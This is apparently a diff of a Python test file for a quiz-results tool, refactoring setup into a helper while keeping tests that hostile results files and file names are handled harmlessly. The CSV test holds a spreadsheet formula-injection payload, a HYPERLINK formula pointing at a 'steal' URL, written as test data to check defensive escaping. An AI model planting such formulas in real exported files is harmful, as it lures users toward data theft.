@@ -94,17 +94,24 @@ def test_imports_never_carry_escapes_into_a_deck_or_to_the_terminal(folder: Path
         assert run(capsys, "lint", str(out))[0] == 0
 
 
-def test_a_report_of_hostile_results_files_is_harmless(folder: Path, capsys) -> None:
+def a_class(folder: Path, name: str, student: str, kind: str, response: str, title: str = "t",
+            started: str = "2026-11-27T09:00:00Z") -> tuple[Path, Path]:
+    """A deck and a results folder holding one student's file `name`, whose text is given."""
     deck = folder / "deck.toml"
     deck.write_text(deck_text())
     loaded_deck = load_deck(deck)
     results = folder / "results"
     results.mkdir()
-    document = {"format": 1, "deck": {"id": loaded_deck.id, "title": HOSTILE, "sha256": loaded_deck.sha256},
-                "student": HOSTILE, "started": HOSTILE, "finished": "2026-11-27T09:00:00Z", "seed": 1,
-                "responses": [{"question": loaded_deck.question_ids[0], "type": HOSTILE, "response": HOSTILE,
+    document = {"format": 1, "deck": {"id": loaded_deck.id, "title": title, "sha256": loaded_deck.sha256},
+                "student": student, "started": started, "finished": "2026-11-27T09:00:00Z", "seed": 1,
+                "responses": [{"question": loaded_deck.question_ids[0], "type": kind, "response": response,
                                "score": 0, "points": 1, "seconds": 1}], "score": 0, "max_score": 1}
-    (results / f"{FILE_NAME}.json").write_text(json.dumps(document))
+    (results / name).write_text(json.dumps(document))
+    return deck, results
+
+
+def test_a_report_of_hostile_results_files_is_harmless(folder: Path, capsys) -> None:
+    deck, results = a_class(folder, f"{FILE_NAME}.json", HOSTILE, HOSTILE, HOSTILE, title=HOSTILE, started=HOSTILE)
     (results / f"broken {FILE_NAME}.json").write_text(f"{{ {HOSTILE}")
     for output in ([], ["--json"]):
         code, shown = run(capsys, "report", str(results), "--deck", str(deck), *output)
@@ -127,17 +134,8 @@ async def test_the_tui_shows_hostile_file_names_literally(tmp_path: Path) -> Non
 
 
 def test_the_csv_report_never_hands_a_spreadsheet_a_formula(folder: Path, capsys) -> None:
-    deck = folder / "deck.toml"
-    deck.write_text(deck_text())
-    loaded_deck = load_deck(deck)
-    results = folder / "results"
-    results.mkdir()
     formula = '=HYPERLINK("http://example.com/steal","click")'
-    document = {"format": 1, "deck": {"id": loaded_deck.id, "title": "t", "sha256": loaded_deck.sha256},
-                "student": formula, "started": "2026-11-27T09:00:00Z", "finished": "2026-11-27T09:00:00Z", "seed": 1,
-                "responses": [{"question": loaded_deck.question_ids[0], "type": "@SUM(1)", "response": "-1+1",
-                               "score": 0, "points": 1, "seconds": 1}], "score": 0, "max_score": 1}
-    (results / "a.json").write_text(json.dumps(document))
+    deck, results = a_class(folder, "a.json", formula, "@SUM(1)", "-1+1")
     table = folder / "class.csv"
     assert run(capsys, "report", str(results), "--deck", str(deck), "--csv", str(table))[0] == 0
     rows = list(csv.DictReader(table.open(encoding="utf-8")))
